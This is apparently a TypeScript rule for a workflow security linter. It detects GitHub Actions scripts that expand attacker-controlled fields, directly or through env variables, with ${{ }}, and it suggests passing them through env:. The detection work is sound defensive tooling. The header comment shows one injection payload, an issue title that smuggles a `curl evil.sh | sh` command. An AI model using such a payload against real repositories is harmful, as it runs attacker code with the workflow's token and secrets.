/**
 * A `run:` script (or `actions/github-script`'s `script:`) that writes an attacker's text into its
 * own source with `${{ … }}`: GitHub substitutes the expression before the shell (or Node) reads the
 * script, so an issue titled `a"; curl evil.sh | sh; echo "` runs as code, with the job's token and
 * secrets. The most common way public repositories' workflows are taken over (GitHub's "Security
 * hardening for GitHub Actions", zizmor's template-injection, CodeQL's actions/code-injection).
 *
 * The untrusted fields are listed once, in gha-expressions.ts. A field that is only compared
 * (`${{ github.head_ref == 'main' }}`) or tested (`contains(github.event.issue.body, 'x')`) puts
 * true or false in the script, not its text, and is not reported; one wrapped in a function that
 * passes text on (`toJSON(…)`, `format(…)`, `join(…)`, `a || b`) is. A value passed through `env:`
 * and read as `"$VAR"` is never substituted into the script, which is the fix.
 *
 * Read as `${{ env.VAR }}` instead, the same value is substituted into the script text before the
 * shell runs, exactly as the field itself would be: a common slip after following that fix. So a
 * `${{ env.NAME }}` (`env['NAME']`, any case) is reported when NAME, as the step sees it (its own
 * `env:`, else its job's, else the workflow's, as GitHub resolves it), is set from an untrusted field.
 *
 * A composite action of the repository (`action.yml`) is read the same way: its steps run in the job
 * of whichever workflow uses it and can read `github.event` directly. Its `${{ inputs.* }}` are the
 * caller's to pass and are not judged here.
 */
import { clipInput } from '../../../quoted-input.js';
import { injectedInputs, references } from '../gha-expressions.js';
import type { WorkflowRule } from '../rule.js';
import { actionName, type Env, type Expression, type WorkflowStep, type WorkflowValue } from '../workflow.js';

/** `github.event.issue.title` → `ISSUE_TITLE`: the name the fix suggests for the environment variable. */
function variableName(input: string): string {
  const segments = input.split('.').filter((s) => s !== 'github' && s !== 'event' && s !== '*');
  return segments.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
}

export const rule: WorkflowRule = {
  info: {
    id: 'gha-script-injection',
    kind: 'runtime',
    severity: 'high',
    confidence: 'high',
    title: 'Untrusted input expanded into a workflow script',
    help: 'GitHub substitutes ${{ … }} into a run: script (or actions/github-script\'s script:) before the shell reads it, so text anyone can set (an issue or pull request title or body, a branch name, a comment, a commit message) becomes code that runs with the job\'s token and secrets. Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use "$TITLE", quoted, in the script (process.env.TITLE in github-script).',
  },
  check(workflow, report, unchecked) {
    // Each written script once: one given to several steps by an alias is one place to change. Its
    // `${{ env.* }}` are resolved again in each step it is given to (each sees its own env:), but
    // each expression is reported once, and each script once per distinct set of env: maps.
    const seen = new Map<WorkflowValue, EnvReads>();
    const envs = new EnvReader();
    const budget = { left: ENV_LOOKUP_BUDGET };
    for (const step of workflow.steps) {
      const owner = workflow.kind === 'action' ? 'Composite action' : `Job ${clipInput(step.job, 60)}`;
      const script = step.uses && actionName(step.uses.value) === 'actions/github-script' ? step.with.get('script') : undefined;
      for (const [value, how] of [[step.run, 'run'], [script, 'github-script']] as const) {
        if (!value) continue;
        let reads = seen.get(value);
        if (!reads) {
          reads = reportScript(value, how, owner, report);
          seen.set(value, reads);
        }
        if (reads.pending.size > 0 && budget.left > 0) {
          reportEnvReads(reads, step, envs, how === 'run' ? 'the run: script' : 'the github-script script', how, owner, report, budget);
          if (budget.left <= 0) unchecked(`its \${{ env.* }} reads need more than ${ENV_LOOKUP_BUDGET.toLocaleString('en-US')} look-ups to resolve (scripts and env: maps given to thousands of steps by aliases), so those left were not checked`);
        }
      }
    }
  },
};

type Report = Parameters<WorkflowRule['check']>[1];

/**
 * Look-ups of `env:` names a file may cost. A script and env: maps given by aliases to thousands of
 * steps, each with env: of its own, made the resolution below quadratic (8,000 jobs of a constructed
 * 800 KB workflow: 4.1 s against 0.8 s without it); real workflows need hundreds. Past it, what is
 * left is said (the scan is partial), never passed.
 */
const ENV_LOOKUP_BUDGET = 1_000_000;

/**
 * A script's `${{ env.NAME }}` not reported yet (NAME lower case: GitHub reads `env.title` as
 * `TITLE`, expression property names ignoring case), and the env: maps it was resolved against.
 */
interface EnvReads {
  pending: Map<string, Expression[]>;
  resolvedIn: Set<string>;
  /** Expressions reported for an `env.*` they read (one may read several). */
  reported: Set<Expression>;
}

/** An `env:` variable and the untrusted field its value carries. */
interface EnvVariable {
  /** Its name as written in `env:` (what `"$NAME"` reads). */
  name: string;
  carries: { reference: string; input: string } | null;
}

type Level = 'step' | 'job' | 'workflow';
type EnvIndex = { byName: Map<string, EnvVariable>; untrusted: EnvVariable[]; id: number };

/**
 * `env:` maps indexed by lower-case name, each map once (a job's `env:` seen by a thousand steps is
 * read once). Of two names differing only in case in one map, the one carrying untrusted text is
 * kept, so the rule errs towards reporting.
 */
class EnvReader {
  private readonly indexes = new Map<Env, EnvIndex>();

  index(env: Env): EnvIndex {
    let index = this.indexes.get(env);
    if (index) return index;
    const byName = new Map<string, EnvVariable>();
    for (const [name, value] of env) {
      const lower = name.toLowerCase();
      const known = byName.get(lower);
      if (known?.carries) continue;
      let carries: EnvVariable['carries'] = null;
      for (const expression of value.expressions) {
        const first = injectedInputs(expression.text)[0];
        if (first) {
          carries = { reference: first.reference, input: first.input };
          break;
        }
      }
      if (!known || carries) byName.set(lower, { name, carries });
    }
    // Empty maps (most steps') are one context: a script aliased into a thousand steps without env: is resolved once.
    index = { byName, untrusted: [...byName.values()].filter((v) => v.carries), id: byName.size === 0 ? 0 : this.indexes.size + 1 };
    this.indexes.set(env, index);
    return index;
  }
}

/** The direct findings of a script, and its `${{ env.* }}` left to resolve in each step it is given to. */
function reportScript(script: WorkflowValue, how: 'run' | 'github-script', owner: string, report: Report): EnvReads {
  const reads: EnvReads = { pending: new Map(), resolvedIn: new Set(), reported: new Set() };
  const where = how === 'run' ? 'the run: script' : 'the github-script script';
  for (const expression of script.expressions) {
    const inputs = injectedInputs(expression.text);
    if (inputs.length === 0) {
      for (const ref of references(expression.text)) {
        if (!ref.flows || ref.path.length !== 2 || ref.path[0] !== 'env') continue;
        const name = ref.path[1]!;
        const list = reads.pending.get(name);
        if (list) list.push(expression);
        else reads.pending.set(name, [expression]);
      }
      continue;
    }
    const first = inputs[0]!;
    const what = first.whole ? `${first.reference}, which holds ${first.input} (text anyone can set),` : `${first.reference} (text anyone can set)`;
    const more = inputs.length > 1 ? ` and ${inputs.length - 1} more untrusted field${inputs.length > 2 ? 's' : ''}` : '';
    const name = variableName(first.input);
    // The expression as written (`toJSON(github.event.issue)`) goes into env: as it is, when short enough to show.
    const written = expression.text.trim();
    const value = written.length <= 80 && !written.includes('\n') ? written : first.input;
    report({
      line: expression.line,
      column: expression.column,
      message: `${owner}: ${where} expands ${what}${more} with \${{ }}, so that text becomes part of the ${how === 'run' ? 'shell script' : 'JavaScript'} and runs with the job's token and secrets.`,
      fix:
        how === 'run'
          ? `Pass it through env: (env: ${name}: \${{ ${value} }}) and use "$${name}", quoted, in the script.`
          : `Pass it through env: (env: ${name}: \${{ ${value} }}) and read process.env.${name} in the script.`,
    });
  }
  return reads;
}

/**
 * Reports the script's pending `${{ env.NAME }}` whose NAME, as this step sees it (its own env:, else
 * its job's, else the workflow's, as GitHub resolves it), is set from an untrusted field. A script
 * is resolved once per distinct (step, job, workflow) env: maps (steps without env: are one), each
 * time walking the smaller of its pending names and those maps' variables, and a reported name
 * leaves pending: a script aliased into thousands of steps with env: of their own costs what its
 * steps' env: do, not steps times expressions (only a script and a large env: map both aliased into
 * thousands of jobs with env: of their own would make both sides large, each job once).
 */
function reportEnvReads(reads: EnvReads, step: WorkflowStep, envs: EnvReader, where: string, how: 'run' | 'github-script', owner: string, report: Report, budget: { left: number }): void {
  const [stepIndex, jobIndex, workflowIndex] = step.env.map((env) => envs.index(env)) as [EnvIndex, EnvIndex, EnvIndex];
  const context = `${stepIndex.id}/${jobIndex.id}/${workflowIndex.id}`;
  if (reads.resolvedIn.has(context)) return;
  reads.resolvedIn.add(context);
  const found = (lower: string, variable: EnvVariable, level: Level) => {
    const expressions = reads.pending.get(lower);
    if (!variable.carries || !expressions) return;
    for (const expression of expressions) {
      if (reads.reported.has(expression)) continue;
      reads.reported.add(expression);
      reportEnvReference(expression, variable, level, where, how, owner, report);
    }
    reads.pending.delete(lower);
  };
  if (reads.pending.size <= stepIndex.byName.size + jobIndex.byName.size + workflowIndex.untrusted.length) {
    budget.left -= reads.pending.size;
    for (const lower of [...reads.pending.keys()]) {
      const atStep = stepIndex.byName.get(lower);
      const atJob = atStep ? undefined : jobIndex.byName.get(lower);
      const atWorkflow = atStep || atJob ? undefined : workflowIndex.byName.get(lower);
      if (atStep) found(lower, atStep, 'step');
      else if (atJob) found(lower, atJob, 'job');
      else if (atWorkflow) found(lower, atWorkflow, 'workflow');
    }
    return;
  }
  budget.left -= stepIndex.byName.size + jobIndex.byName.size + workflowIndex.untrusted.length;
  for (const [lower, variable] of stepIndex.byName) found(lower, variable, 'step');
  for (const [lower, variable] of jobIndex.byName) if (!stepIndex.byName.has(lower)) found(lower, variable, 'job');
  for (const variable of workflowIndex.untrusted) {
    const lower = variable.name.toLowerCase();
    if (!stepIndex.byName.has(lower) && !jobIndex.byName.has(lower)) found(lower, variable, 'workflow');
  }
}

function reportEnvReference(expression: Expression, variable: EnvVariable, level: Level, where: string, how: 'run' | 'github-script', owner: string, report: Report): void {
  const name = clipInput(variable.name, 60);
  const setBy = `the ${level}'s env:`;
  report({
    line: expression.line,
    column: expression.column,
    message: `${owner}: ${where} expands \${{ env.${name} }}, which ${setBy} sets from ${variable.carries!.reference} (text anyone can set); GitHub substitutes it before the script runs, so that text becomes part of the ${how === 'run' ? 'shell script' : 'JavaScript'} and runs with the job's token and secrets.`,
    fix:
      how === 'run'
        ? `Use "$${name}", quoted, in the script instead of \${{ env.${name} }}: the shell then reads the variable as data.`
        : `Read process.env.${name} in the script instead of \${{ env.${name} }}: the script then reads the variable as data.`,
  });
}
